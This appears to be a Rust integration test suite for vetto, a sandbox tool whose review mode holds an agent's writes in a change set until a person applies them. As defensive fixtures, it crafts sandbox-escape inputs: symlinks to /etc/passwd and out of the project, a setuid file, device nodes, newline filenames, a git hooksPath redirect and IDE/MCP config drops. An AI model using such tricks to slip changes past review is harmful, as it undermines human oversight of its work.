//! Review mode (issue 19): `vetto run --project-access review` holds the sandbox's writes in a
//! change set; `vetto changes list/diff/apply/discard` and `vetto run --resume`. As root and as
//! `nobody`. Hostile upper layers are made by hand in a real session's change set.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

use vetto_integration::{both, err, out, Fixture};

const REVIEW: &[&str] = &["-q", "--project-access", "review"];

/// Every entry below `root` (not `.env`, which the sandbox sees masked): path, kind, mode and
/// content digest or link target, one line each, sorted.
const MANIFEST: &str = r#"
import hashlib, os, stat, sys
root = sys.argv[1]
out = []
for d, dirs, files in os.walk(root):
    for n in sorted(dirs + files):
        p = os.path.join(d, n)
        rel = os.path.relpath(p, root)
        if rel.endswith(".env"):
            continue
        st = os.lstat(p)
        mode = oct(stat.S_IMODE(st.st_mode))
        if stat.S_ISLNK(st.st_mode):
            out.append(f"{rel} link {os.readlink(p)}")
        elif stat.S_ISDIR(st.st_mode):
            out.append(f"{rel} dir {mode}")
        elif stat.S_ISREG(st.st_mode):
            out.append(f"{rel} file {mode} " + hashlib.sha256(open(p, "rb").read()).hexdigest())
        else:
            out.append(f"{rel} other {mode}")
print("\n".join(sorted(out)))
"#;

fn manifest(dir: &Path) -> String {
    let o = std::process::Command::new("python3")
        .args(["-c", MANIFEST, &dir.display().to_string()])
        .output()
        .expect("python3");
    assert!(o.status.success(), "{}", err(&o));
    out(&o)
}

/// The change set id a review session printed.
fn set_id(stderr: &str) -> String {
    stderr
        .split("change set ")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .unwrap_or_else(|| panic!("no change set named: {stderr}"))
        .to_string()
}

fn changes_dir(f: &Fixture) -> PathBuf {
    f.home.join(".local/state/vetto/changes")
}

/// Everything in the change sets' directory.
fn entries(f: &Fixture) -> Vec<String> {
    std::fs::read_dir(changes_dir(f))
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// The change sets: the entries but a discarded set's `.trash-<id>`, which vetto removes
/// after it has exited (see `settled`).
fn sets(f: &Fixture) -> Vec<String> {
    entries(f)
        .into_iter()
        .filter(|n| !n.starts_with(".trash-"))
        .collect()
}

/// Whether nothing of a discarded set is left, once its session's supervisor has removed it
/// (after delivering vetto's status).
fn settled(f: &Fixture) -> bool {
    vetto_integration::eventually(5, || sets(f).len() == entries(f).len())
}

both!(
    an_agent_session_reaches_the_project_only_through_apply,
    |f| {
        std::fs::write(f.proj.join("old.txt"), "to be deleted\n").expect("w");
        std::fs::write(f.proj.join("a.txt"), "renamed\n").expect("w");
        std::fs::write(f.proj.join("tool.sh"), "echo tool\n").expect("w");
        for (d, files) in [("gone", &["x"][..]), ("redo", &["y", "z"][..])] {
            std::fs::create_dir_all(f.proj.join(d)).expect("mkdir");
            for n in files {
                std::fs::write(f.proj.join(d).join(n), n).expect("w");
            }
        }
        // A secret below the project root is masked in the overlay too.
        std::fs::create_dir_all(f.proj.join("deploy")).expect("mkdir");
        std::fs::write(f.proj.join("deploy/.env"), "DEPLOY_KEY=dummy\n").expect("w");
        sh(&format!(
        "cd '{}' && export HOME='{}' && git -c safe.directory='*' add old.txt a.txt tool.sh gone redo && git -c safe.directory='*' commit -qm files",
        f.proj.display(),
        f.home.display()
    ));
        f.own(&f.proj);
        let before = manifest(&f.proj);
        let script = "set -e\n\
         test ! -s .env\n\
         test ! -s deploy/.env\n\
         echo 'edited' >> README\n\
         chmod 755 tool.sh\n\
         rm -r gone\n\
         rm -r redo && mkdir redo && echo n > redo/n\n\
         echo 'new file' > new.txt\n\
         rm old.txt\n\
         mv a.txt b.txt\n\
         mkdir -p src && printf 'fn main() {}\\n' > src/main.rs\n\
         git add -A README new.txt old.txt a.txt b.txt src tool.sh gone redo\n\
         git commit -qm 'agent work'\n\
         python3 -c \"$VETTO_TEST_MANIFEST\" .\n";
        let mut flags = REVIEW.to_vec();
        flags.extend(["--pass-env", "VETTO_TEST_MANIFEST"]);
        let o = f.run_env(
            &flags,
            &["/bin/sh", "-c", script],
            &[("VETTO_TEST_MANIFEST", MANIFEST)],
        );
        assert!(o.status.success(), "{}\n{}", out(&o), err(&o));
        let seen = out(&o);
        let id = set_id(&err(&o));
        // Nothing reached the project.
        assert_eq!(
            manifest(&f.proj),
            before,
            "the host project changed during review"
        );
        let e = err(&o);
        assert!(
            e.contains("D old.txt") && e.contains("A new.txt") && e.contains("M README"),
            "{e}"
        );
        assert!(
            e.contains("D a.txt") && e.contains("A b.txt"),
            "a rename is a delete and an add: {e}"
        );
        assert!(e.contains("P tool.sh") && e.contains("D gone\n"), "{e}");
        assert!(e.contains("R redo\n") && e.contains("A redo/n\n"), "{e}");
        // Trust-handoff paths (the commit's git metadata) are listed first.
        let handoff_at = e
            .find("trust-handoff paths")
            .unwrap_or_else(|| panic!("no handoff section: {e}"));
        let changes_at = e.find("changes:").expect("changes section");
        assert!(handoff_at < changes_at && e.contains("M .git/index"), "{e}");
        // diff shows exactly those changes.
        let o = f.vetto(&["changes", "diff", &id]);
        assert!(o.status.success(), "{}", err(&o));
        let d = out(&o);
        assert!(d.contains("--- a/README\n+++ b/README\n"), "{d}");
        assert!(d.contains("+edited\n"), "{d}");
        assert!(
            d.contains("+++ b/new.txt\n") && d.contains("+new file\n"),
            "{d}"
        );
        assert!(
            d.contains("deleted old.txt\n") && d.contains("-to be deleted\n"),
            "{d}"
        );
        // A plain apply leaves the trust-handoff paths; with them, the project is what the agent saw.
        let o = f.vetto(&["changes", "apply", &id]);
        assert_eq!(o.status.code(), Some(1), "{}\n{}", out(&o), err(&o));
        assert!(
            out(&o).contains("skipped  M .git/index: a trust-handoff path"),
            "{}",
            out(&o)
        );
        assert!(f.proj.join("new.txt").exists() && !f.proj.join("old.txt").exists());
        let o = f.vetto(&["changes", "apply", "--include-handoff", &id]);
        assert!(o.status.success(), "{}\n{}", out(&o), err(&o));
        assert_eq!(
            manifest(&f.proj).trim_end(),
            seen.trim_end(),
            "apply is not what the agent saw"
        );
        // git on the host sees the agent's commit, with a clean tree.
        let o = std::process::Command::new("git")
            .args([
                "-c",
                "safe.directory=*",
                "-C",
                &f.proj.display().to_string(),
            ])
            .args(["log", "--format=%s", "-1"])
            .env("HOME", &f.home)
            .output()
            .expect("git");
        assert_eq!(out(&o), "agent work\n", "{}", err(&o));
        // Discard leaves nothing of the set.
        let o = f.vetto(&["changes", "discard", &id]);
        assert!(o.status.success(), "{}", err(&o));
        assert!(sets(f).is_empty(), "{:?}", sets(f));
    }
);

both!(
    a_session_that_changes_nothing_keeps_no_set_and_discard_removes_one,
    |f| {
        let o = f.run_sh(REVIEW, "cat README > /dev/null");
        assert!(o.status.success(), "{}", err(&o));
        assert!(err(&o).contains("changed nothing"), "{}", err(&o));
        // Out of the listing before vetto's exit, and its files gone a moment after.
        assert!(sets(f).is_empty(), "{:?}", sets(f));
        assert!(
            f.vetto(&["changes", "list"]).status.success(),
            "changes list"
        );
        assert!(settled(f), "left behind: {:?}", entries(f));
        let o = f.run_sh(REVIEW, "echo x > made.txt");
        let id = set_id(&err(&o));
        assert_eq!(sets(f), vec![id.clone()]);
        let o = f.vetto(&["changes", "discard", &id]);
        assert!(o.status.success(), "{}", err(&o));
        assert!(sets(f).is_empty());
        assert!(!f.proj.join("made.txt").exists());
    }
);

both!(resume_continues_on_the_same_upper_layer, |f| {
    let o = f.run_sh(REVIEW, "echo step1 > notes.txt");
    let id = set_id(&err(&o));
    let o = f.run_sh(
        &["-q", "--resume", &id],
        "cat notes.txt && echo step2 >> notes.txt",
    );
    assert_eq!(out(&o), "step1\n", "{}", err(&o));
    assert!(
        !f.proj.join("notes.txt").exists(),
        "resume wrote to the project"
    );
    let o = f.vetto(&["changes", "list", &id]);
    assert!(out(&o).contains("A notes.txt"), "{}", out(&o));
    let o = f.vetto(&["changes", "list", "--json"]);
    assert!(out(&o).contains("\"ended_ms\""), "{}", out(&o));
    let o = f.vetto(&["changes", "apply", &id]);
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(f.proj.join("notes.txt")).expect("r"),
        "step1\nstep2\n"
    );
    // A set is for one project: resuming it elsewhere is refused.
    let other = f.root.join("outside");
    let o = f.vetto(&[
        "run",
        "-q",
        "--project",
        &other.display().to_string(),
        "--resume",
        &id,
        "--",
        "true",
    ]);
    assert!(!o.status.success());
    assert!(err(&o).contains("is for the project"), "{}", err(&o));
    // Resuming an unknown or malformed id is refused.
    let o = f.run_sh(&["-q", "--resume", "20000101-000000-abcdef"], "true");
    assert!(err(&o).contains("there is no change set"), "{}", err(&o));
    let o = f.run_sh(&["-q", "--resume", "../x"], "true");
    assert!(err(&o).contains("is not a change set id"), "{}", err(&o));
});

// The overlay is mounted `volatile`: a session's end does not wait for its writes to reach the
// disk, and overlayfs leaves a marker in the set's work directory. In the same boot the set is
// whole (the page cache holds what the disk does not yet): the resume above clears the marker
// (overlayfs would refuse the mount otherwise). A set last used before a restart may have lost
// writes in a crash: it is not resumed, and apply needs --force. The restart is simulated by
// giving the set another boot id.
both!(
    a_set_last_used_before_a_restart_is_not_taken_as_whole,
    |f| {
        let o = f.run_sh(REVIEW, "echo kept > notes.txt");
        let id = set_id(&err(&o));
        let set = changes_dir(f).join(&id);
        assert!(
            set.join("work/work/incompat/volatile").exists(),
            "the overlay was not mounted volatile"
        );
        let meta = set.join("meta.json");
        let body = std::fs::read_to_string(&meta).expect("meta");
        let mut v: serde_json::Value = serde_json::from_str(&body).expect("json");
        let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").expect("boot_id");
        assert_eq!(v["boot_id"].as_str(), Some(boot.trim()), "{body}");
        v["boot_id"] = serde_json::Value::from("00000000-0000-0000-0000-000000000000");
        std::fs::write(&meta, serde_json::to_vec(&v).expect("ser")).expect("w");

        let o = f.run_sh(&["-q", "--resume", &id], "echo resumed > more.txt");
        assert!(!o.status.success(), "resumed: {}", err(&o));
        assert!(
            err(&o).contains("before the system restarted"),
            "{}",
            err(&o)
        );
        let o = f.vetto(&["changes", "list"]);
        assert!(
            out(&o).contains("last used before a restart"),
            "{}",
            out(&o)
        );
        let o = f.vetto(&["changes", "list", &id]);
        assert!(out(&o).contains("WARNING"), "{}", out(&o));
        // Refused again: the refusal above did not clear the marker.
        let o = f.run_sh(&["-q", "--resume", &id], "true");
        assert!(
            err(&o).contains("before the system restarted"),
            "{}",
            err(&o)
        );
        let o = f.vetto(&["changes", "apply", &id]);
        assert!(!o.status.success(), "applied: {}", out(&o));
        assert!(
            err(&o).contains("apply` needs --accept-unsynced"),
            "{}",
            err(&o)
        );
        // --force (paths the project changed meanwhile) is another decision.
        let o = f.vetto(&["changes", "apply", &id, "--force"]);
        assert!(!o.status.success(), "applied: {}", out(&o));
        assert!(!f.proj.join("notes.txt").exists());
        let o = f.vetto(&["changes", "apply", &id, "--accept-unsynced"]);
        assert!(o.status.success(), "{} {}", out(&o), err(&o));
        let recs = audit_records(f, &["--kind", "changes", "--session", &id]);
        assert!(
            recs.iter().any(|r| r["accept_unsynced"] == true),
            "{recs:?}"
        );
        assert_eq!(
            std::fs::read_to_string(f.proj.join("notes.txt")).expect("r"),
            "kept\n"
        );
        let o = f.vetto(&["changes", "discard", &id]);
        assert!(o.status.success(), "{}", err(&o));
        assert!(sets(f).is_empty());
    }
);

/// The audit trail's records of `vetto changes --json` queries, parsed.
fn audit_records(f: &Fixture, args: &[&str]) -> Vec<serde_json::Value> {
    let mut full = vec!["audit", "query", "--json"];
    full.extend_from_slice(args);
    let o = f.vetto(&full);
    assert!(o.status.success(), "{}", err(&o));
    out(&o)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

// Every decision is recorded: a review session's start names its change set, and an apply or a
// discard is a `changes` record under the set's id saying what was applied and what was not.
// A decision that cannot be recorded is not carried out (unless --no-audit).
both!(applies_and_discards_are_recorded_in_the_audit_trail, |f| {
    let o = f.run_sh(REVIEW, "echo one > one.txt && echo two > two.txt");
    let id = set_id(&err(&o));
    let starts = audit_records(f, &["--kind", "session_start"]);
    assert!(
        starts.iter().any(|r| r["change_set"] == id.as_str()),
        "{starts:?}"
    );
    std::fs::write(f.proj.join("two.txt"), "the user's\n").expect("w");
    let o = f.vetto(&["changes", "apply", &id]);
    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
    let recs = audit_records(f, &["--kind", "changes", "--session", &id]);
    assert_eq!(recs.len(), 1, "{recs:?}");
    let r = &recs[0];
    assert_eq!(r["action"], "apply");
    assert_eq!(r["applied"], serde_json::json!(["A one.txt"]), "{r}");
    assert_eq!(
        (r["applied_total"].as_u64(), r["skipped_total"].as_u64()),
        (Some(1), Some(1)),
        "{r}"
    );
    let skipped = r["skipped"].as_array().expect("skipped");
    assert!(
        skipped.len() == 1 && skipped[0]["path"] == "two.txt" && skipped[0]["why"].is_string(),
        "{r}"
    );
    assert_eq!(r["force"], false);
    assert_eq!(r["lists_sha256"].as_str().map(str::len), Some(64), "{r}");
    // Recorded before anything is printed: a reader that goes away (SIGPIPE) does not cost
    // the record of a change already made.
    let o = f.run_sh(REVIEW, "echo three > three.txt");
    let third = set_id(&err(&o));
    let bin = f.bin.display().to_string();
    let mut c = f.command(&[&bin, "changes", "apply", &third], &f.base_env());
    let mut child = vetto_integration::spawn_retrying(
        c.stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null()),
    );
    drop(child.stdout.take());
    let st = child.wait().expect("wait");
    assert!(f.proj.join("three.txt").exists(), "{st:?}");
    let recs = audit_records(f, &["--kind", "changes", "--session", &third]);
    assert_eq!(recs.len(), 1, "{st:?} {recs:?}");
    let o = f.vetto(&["changes", "discard", &third]);
    assert!(o.status.success(), "{}", err(&o));
    let o = f.run_sh(REVIEW, "echo x > x.txt");
    let other = set_id(&err(&o));
    let o = f.vetto(&["changes", "discard", &other]);
    assert!(o.status.success(), "{}", err(&o));
    let recs = audit_records(f, &["--kind", "changes", "--session", &other]);
    assert!(
        recs.len() == 1
            && recs[0]["action"] == "discard"
            && recs[0]["change_set"] == other.as_str(),
        "{recs:?}"
    );
    // `vetto audit sessions` lists the three review sessions, each with its start and end,
    // and no change set as a session of its own (each set's records are under its id).
    let o = f.vetto(&["audit", "sessions", "--json"]);
    assert!(o.status.success(), "{}", err(&o));
    let rows: Vec<serde_json::Value> = out(&o)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert_eq!(rows.len(), 3, "{rows:?}");
    for r in &rows {
        assert_eq!(r["start"]["kind"], "session_start", "{r}");
        assert_eq!(r["end"]["kind"], "session_end", "{r}");
        let session = r["session"].as_str().unwrap_or_default();
        assert!(![&id, &third, &other].iter().any(|s| *s == session), "{r}");
    }
    let o = f.vetto(&["audit", "sessions"]);
    assert!(!out(&o).contains("(no end recorded)"), "{}", out(&o));

    // An audit store that cannot be opened (its key is not a key): nothing is discarded.
    let key = f.home.join(".local/state/vetto/audit/audit.key");
    std::fs::write(&key, "not a key\n").expect("w");
    let o = f.vetto(&["changes", "discard", &id]);
    assert!(!o.status.success(), "{}", out(&o));
    assert!(err(&o).contains("nothing was changed"), "{}", err(&o));
    assert_eq!(sets(f), vec![id.clone()]);
    let o = f.vetto(&["changes", "discard", &id, "--no-audit"]);
    assert!(o.status.success(), "{}", err(&o));
    assert!(sets(f).is_empty());
});

both!(partial_apply_and_paths_changed_meanwhile, |f| {
    std::fs::write(f.proj.join("one.txt"), "1\n").expect("w");
    std::fs::write(f.proj.join("two.txt"), "2\n").expect("w");
    f.own(&f.proj);
    let o = f.run_sh(REVIEW, "echo agent >> one.txt && echo agent >> two.txt");
    let id = set_id(&err(&o));
    // The user edits two.txt after the session started.
    std::fs::write(f.proj.join("two.txt"), "2 user\n").expect("w");
    let o = f.vetto(&["changes", "apply", &id, "one.txt"]);
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(f.proj.join("one.txt")).expect("r"),
        "1\nagent\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.proj.join("two.txt")).expect("r"),
        "2 user\n"
    );
    let o = f.vetto(&["changes", "apply", &id, "two.txt"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        out(&o).contains("skipped  M two.txt: changed in the project since the session started"),
        "{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(f.proj.join("two.txt")).expect("r"),
        "2 user\n"
    );
    let o = f.vetto(&["changes", "apply", "--force", &id, "two.txt"]);
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(f.proj.join("two.txt")).expect("r"),
        "2\nagent\n"
    );
    // Paths outside the project, or climbing out, are refused as arguments.
    for bad in ["../x", "/etc/passwd"] {
        let o = f.vetto(&["changes", "apply", &id, bad]);
        assert!(!o.status.success());
        assert!(err(&o).contains("inside the project"), "{}", err(&o));
    }
});

both!(trust_handoff_files_need_include_handoff, |f| {
    let o = f.run_sh(
        REVIEW,
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo '{}' > .mcp.json \
         && git config core.hooksPath /tmp/hooks && echo plain > plain.txt",
    );
    let id = set_id(&err(&o));
    let e = err(&o);
    for p in [".mcp.json", ".vscode/tasks.json", ".git/config"] {
        assert!(listed_as_handoff(&e, p), "{p} not listed first: {e}");
    }
    let o = f.vetto(&["changes", "apply", &id]);
    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
    assert!(f.proj.join("plain.txt").exists());
    assert!(!f.proj.join(".mcp.json").exists() && !f.proj.join(".vscode").exists());
    let cfg = std::fs::read_to_string(f.proj.join(".git/config")).expect("r");
    assert!(!cfg.contains("hooksPath"), "{cfg}");
    let o = f.vetto(&["changes", "apply", "--include-handoff", &id]);
    assert!(o.status.success(), "{}", out(&o));
    assert!(f.proj.join(".mcp.json").exists() && f.proj.join(".vscode/tasks.json").exists());
});

/// Run `sh -c` as root (the test runner), for crafting a hostile upper layer by hand.
/// The trust-handoff section of a review summary on stderr: from its heading to the
/// `changes:` heading (both must be there).
fn handoff_section(e: &str) -> std::ops::Range<usize> {
    let h = e
        .find("trust-handoff paths")
        .unwrap_or_else(|| panic!("no trust-handoff section: {e}"));
    let c = e
        .find("changes:")
        .unwrap_or_else(|| panic!("no changes section: {e}"));
    h..c
}

/// Whether the summary `e` lists `p` first in its trust-handoff section.
fn listed_as_handoff(e: &str, p: &str) -> bool {
    e.find(&format!(" {p}\n"))
        .is_some_and(|at| handoff_section(e).contains(&at))
}

fn sh(cmd: &str) {
    let st = std::process::Command::new("sh")
        .args(["-c", cmd])
        .status()
        .expect("sh");
    assert!(st.success(), "{cmd}");
}

both!(
    hostile_upper_layers_are_refused_or_applied_harmlessly,
    |f| {
        if !vetto_integration::is_root() {
            eprintln!("skipped: crafting device nodes in the upper layer needs a root test runner");
            return;
        }
        std::fs::create_dir_all(f.root.join("outside/target")).expect("mkdir");
        let o = f.run_sh(REVIEW, "echo seed > seed.txt");
        let id = set_id(&err(&o));
        let upper = changes_dir(f).join(&id).join("upper");
        let outside = f.root.join("outside");
        sh(&format!(
            "cd '{u}' && ln -s /etc/passwd abs-link && ln -s ../../outside/target climb-link \
         && ln -s seed.txt ok-link && printf 'x' > suid \
         && mkfifo fifo && mknod dev c 1 3 && mknod ghost c 0 0 \
         && printf 'n' > \"$(printf 'new\\nline')\" && printf 'd' > ..dots \
         && mkdir lnk && printf 'in' > lnk/f && chown -R {uid}:{uid} . && chmod 4755 suid",
            u = upper.display(),
            uid = f.uid
        ));
        // The user made `lnk` a symlink out of the project meanwhile.
        std::os::unix::fs::symlink(&outside, f.proj.join("lnk")).expect("ln");
        let o = f.vetto(&["changes", "list", &id]);
        let l = out(&o);
        for (p, why) in [
            ("abs-link", "pointing outside the project"),
            ("climb-link", "pointing outside the project"),
            ("fifo", "FIFO is never applied"),
            ("dev", "character device is never applied"),
            ("new\\nline", "control character"),
        ] {
            assert!(
                l.contains(&format!("! {p}: ")) && l.contains(why),
                "{p}: {l}"
            );
        }
        assert!(
            l.contains("suid (setuid/setgid bits are not applied)"),
            "{l}"
        );
        let o = f.vetto(&["changes", "apply", "--force", "--include-handoff", &id]);
        assert_eq!(o.status.code(), Some(1), "{}", out(&o));
        let text = out(&o);
        assert!(text.contains("skipped  A fifo: refused"), "{text}");
        for p in [
            "abs-link",
            "climb-link",
            "fifo",
            "dev",
            "new\nline",
            "ghost",
        ] {
            assert!(
                f.proj.join(p).symlink_metadata().is_err(),
                "{p} reached the project: {text}"
            );
        }
        // Harmless ones applied: a link inside, the file without its setuid bit, `..dots`.
        assert_eq!(
            std::fs::read_link(f.proj.join("ok-link")).expect("link"),
            Path::new("seed.txt")
        );
        let m = std::fs::metadata(f.proj.join("suid")).expect("suid");
        assert_eq!(m.permissions().mode() & 0o7777, 0o755, "setuid applied");
        assert_eq!(std::fs::read(f.proj.join("..dots")).expect("r"), b"d");
        // The symlink the user put at `lnk` was replaced, not followed: nothing left the project.
        assert!(f.proj.join("lnk").symlink_metadata().expect("lnk").is_dir());
        assert_eq!(std::fs::read(f.proj.join("lnk/f")).expect("r"), b"in");
        assert_eq!(
            std::fs::read_dir(&outside).expect("ls").count(),
            1,
            "something was written outside the project"
        );
        assert!(!outside.join("f").exists() && !outside.join("target/f").exists());
        let _ = m.uid();
    }
);

both!(review_mode_refuses_what_it_cannot_hold, |f| {
    // FS-ONLY has no mount namespace for the overlay.
    let o = f.run_sh(
        &["-q", "--tier", "fs-only", "--project-access", "review"],
        "touch ran",
    );
    assert!(!o.status.success());
    assert!(
        err(&o).contains("review mode needs the FULL tier"),
        "{}",
        err(&o)
    );
    assert!(!f.proj.join("ran").exists());
    assert!(
        sets(f).is_empty(),
        "a refused run left a change set: {:?}",
        sets(f)
    );
    // Change sets the project would hold.
    let inside = f.proj.join("state");
    std::fs::create_dir_all(&inside).expect("mkdir");
    f.own(&inside);
    let o = f.run_env(
        REVIEW,
        &["touch", "ran"],
        &[("XDG_STATE_HOME", &inside.display().to_string())],
    );
    assert!(!o.status.success());
    assert!(err(&o).contains("holds vetto's change sets"), "{}", err(&o));
    assert!(!f.proj.join("ran").exists());
    // A change set on another file system than the project.
    let shm = tempfile::Builder::new()
        .prefix("vetto-it-state.")
        .tempdir_in("/dev/shm")
        .expect("tmp");
    f.own(shm.path());
    let o = f.run_env(
        REVIEW,
        &["touch", "ran"],
        &[("XDG_STATE_HOME", &shm.path().display().to_string())],
    );
    assert!(!o.status.success());
    assert!(err(&o).contains("on another file system"), "{}", err(&o));
    assert_eq!(
        std::fs::read_dir(shm.path().join("vetto/changes"))
            .map(|d| d.count())
            .unwrap_or(0),
        0,
        "a refused run left a change set"
    );
    // The audit store is inside XDG_STATE_HOME too: the runs above may have made it.
    let _ = out(&o);
});

both!(change_sets_are_hidden_from_every_sandbox, |f| {
    let o = f.run_sh(REVIEW, "echo held-for-review > w.txt");
    let id = set_id(&err(&o));
    // A sandbox given the state directory (read-only) sees no change set, in any mode.
    let state = f.home.join(".local/state").display().to_string();
    for mode in ["write", "review"] {
        let o = f.run_sh(
            &["-q", "--project-access", mode, "--allow-read", &state],
            &format!(
                "cat {state}/vetto/changes/{id}/upper/w.txt; ls -a {state}/vetto/changes; echo done"
            ),
        );
        assert!(out(&o).ends_with("done\n"), "{}\n{}", out(&o), err(&o));
        assert!(!out(&o).contains("held-for-review"), "{}", out(&o));
        assert!(!out(&o).contains(&id), "{}", out(&o));
    }
    // No sandbox, in any mode, gets them (or a directory above them) writable: it could move
    // them away and plant a change set of its own in their place.
    let changes = changes_dir(f).display().to_string();
    for mode in ["write", "review"] {
        let o = f.run_sh(
            &["-q", "--project-access", mode, "--allow-write", &changes],
            "touch ran",
        );
        assert!(!o.status.success(), "{mode}: {}", out(&o));
        assert!(
            err(&o).contains("vetto keeps them from the sandbox"),
            "{}",
            err(&o)
        );
    }
    assert!(!f.proj.join("ran").exists());
    // A project inside the change sets is refused.
    let upper = changes_dir(f).join(&id).join("upper");
    let o = f.vetto(&[
        "run",
        "-q",
        "--project",
        &upper.display().to_string(),
        "--",
        "true",
    ]);
    assert!(!o.status.success());
    assert!(
        err(&o).contains("inside vetto's change sets"),
        "{}",
        err(&o)
    );
});

/// `script` run by `sh -c` in a session resumed on the set `id`, once its sandbox has made
/// `started` in the project (the script must).
fn resume_running(f: &Fixture, id: &str, script: &str) -> std::process::Child {
    let mut cmd = f.run_command(
        &["-q", "--resume", id],
        &["/bin/sh", "-c", script],
        &f.base_env(),
    );
    cmd.stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped());
    let child = vetto_integration::spawn_retrying(&mut cmd);
    let upper = changes_dir(f).join(id).join("upper");
    assert!(
        vetto_integration::eventually(10, || upper.join("started").exists()),
        "the resumed session did not start"
    );
    child
}

both!(a_running_session_holds_its_change_set, |f| {
    let o = f.run_sh(REVIEW, "echo one > one.txt");
    let id = set_id(&err(&o));
    let child = resume_running(f, &id, "echo two > two.txt; touch started; sleep 3");
    for args in [
        vec!["changes", "apply", id.as_str()],
        vec!["changes", "discard", id.as_str()],
        vec!["run", "-q", "--resume", id.as_str(), "--", "true"],
    ] {
        let o = f.vetto(&args);
        assert!(!o.status.success(), "{args:?} ran on a set in use");
        assert!(err(&o).contains("is in use"), "{args:?}: {}", err(&o));
    }
    assert!(!f.proj.join("one.txt").exists());
    let o = child.wait_with_output().expect("wait");
    assert!(o.status.success(), "{}", err(&o));
    let o = f.vetto(&["changes", "list", &id]);
    assert!(out(&o).contains("A two.txt"), "{}", out(&o));
});

/// The set `id`'s `meta.json`.
fn meta(f: &Fixture, id: &str) -> serde_json::Value {
    let p = changes_dir(f).join(id).join("meta.json");
    serde_json::from_slice(&std::fs::read(&p).expect("meta.json")).expect("meta.json json")
}

/// The sessions `meta.json` records (start and end, ms), read as the user's `vetto` reads it.
fn recorded_sessions(f: &Fixture, id: &str) -> Vec<(i64, Option<i64>)> {
    meta(f, id)["sessions"]
        .as_array()
        .expect("sessions")
        .iter()
        .map(|s| {
            (
                s["started_ms"].as_i64().expect("start"),
                s["ended_ms"].as_i64(),
            )
        })
        .collect()
}

// A set records each session that ran on it, from the `meta.json` written as the set was
// prepared (nothing is written as the sandbox starts): while a session runs, its record has
// no end; when it ends, it has one; a resumed run refused before its sandbox started is not
// recorded; and `vetto changes list` counts what ran.
both!(a_change_set_records_the_sessions_that_ran_on_it, |f| {
    let o = f.run_sh(REVIEW, "echo one > one.txt");
    assert!(o.status.success(), "{}", err(&o));
    let id = set_id(&err(&o));
    let first = recorded_sessions(f, &id);
    assert_eq!(first.len(), 1, "{first:?}");
    assert!(first[0].1.is_some_and(|end| end >= first[0].0), "{first:?}");
    // Refused after the set was opened (FS-ONLY cannot hold the overlay): not a session.
    let o = f.run_sh(&["-q", "--tier", "fs-only", "--resume", &id], "touch ran");
    assert!(!o.status.success());
    assert!(
        err(&o).contains("review mode needs the FULL tier"),
        "{}",
        err(&o)
    );
    assert_eq!(recorded_sessions(f, &id), first);
    // A second session, seen while it runs and after.
    let child = resume_running(f, &id, "touch started; sleep 2");
    let running = recorded_sessions(f, &id);
    assert_eq!(running.len(), 2, "{running:?}");
    assert_eq!(running[0], first[0]);
    assert!(
        running[1].0 >= first[0].1.unwrap_or(0) && running[1].1.is_none(),
        "{running:?}"
    );
    let o = child.wait_with_output().expect("wait");
    assert!(o.status.success(), "{}", err(&o));
    let done = recorded_sessions(f, &id);
    assert_eq!(done.len(), 2, "{done:?}");
    assert!(
        done[1].1.is_some_and(|end| end >= done[1].0 + 2000),
        "{done:?}"
    );
    let o = f.vetto(&["changes", "list"]);
    assert!(
        out(&o).contains(&format!("{id}  ")) && out(&o).contains("2 session(s)"),
        "{}",
        out(&o)
    );
});

both!(apply_keeps_modes_links_and_moved_directories_safe, |f| {
    let outside = f.root.join("outside");
    // A directory the user will move in later, made (and its file's ctime set) before the session.
    std::fs::create_dir_all(outside.join("lib")).expect("mkdir");
    std::fs::write(outside.join("lib/x.txt"), "user's other x\n").expect("w");
    std::fs::create_dir_all(f.proj.join("lib")).expect("mkdir");
    std::fs::write(f.proj.join("lib/x.txt"), "x\n").expect("w");
    // A project file hard-linked from outside (a package store).
    std::fs::write(f.proj.join("linked.sh"), "echo hi\n").expect("w");
    std::fs::set_permissions(
        f.proj.join("linked.sh"),
        std::fs::Permissions::from_mode(0o644),
    )
    .expect("chmod");
    std::fs::hard_link(f.proj.join("linked.sh"), outside.join("store.sh")).expect("ln");
    f.own(&f.proj);
    f.own(&outside);
    let o = f.run_sh(
        REVIEW,
        "echo agent >> lib/x.txt && chmod 755 linked.sh \
         && echo new > open.txt && chmod 666 open.txt",
    );
    let id = set_id(&err(&o));
    // The user swaps lib for another directory whose file is older than the session.
    sh(&format!(
        "mv '{p}/lib' '{p}/lib.old' && mv '{o}/lib' '{p}/lib'",
        p = f.proj.display(),
        o = outside.display()
    ));
    let o = f.vetto(&["changes", "apply", &id]);
    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
    assert!(
        out(&o).contains(
            "skipped  M lib/x.txt: the directory lib is not the one the session started with"
        ),
        "{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(f.proj.join("lib/x.txt")).expect("r"),
        "user's other x\n"
    );
    // The mode reached the project's file, not the linked file outside.
    let m = |p: &Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    assert_eq!(m(&f.proj.join("linked.sh")), 0o755);
    assert_eq!(
        m(&outside.join("store.sh")),
        0o644,
        "a hard link outside changed"
    );
    // No group/other write bit that was not there.
    assert_eq!(m(&f.proj.join("open.txt")), 0o644);
    let o = f.vetto(&["changes", "apply", "--force", &id, "lib"]);
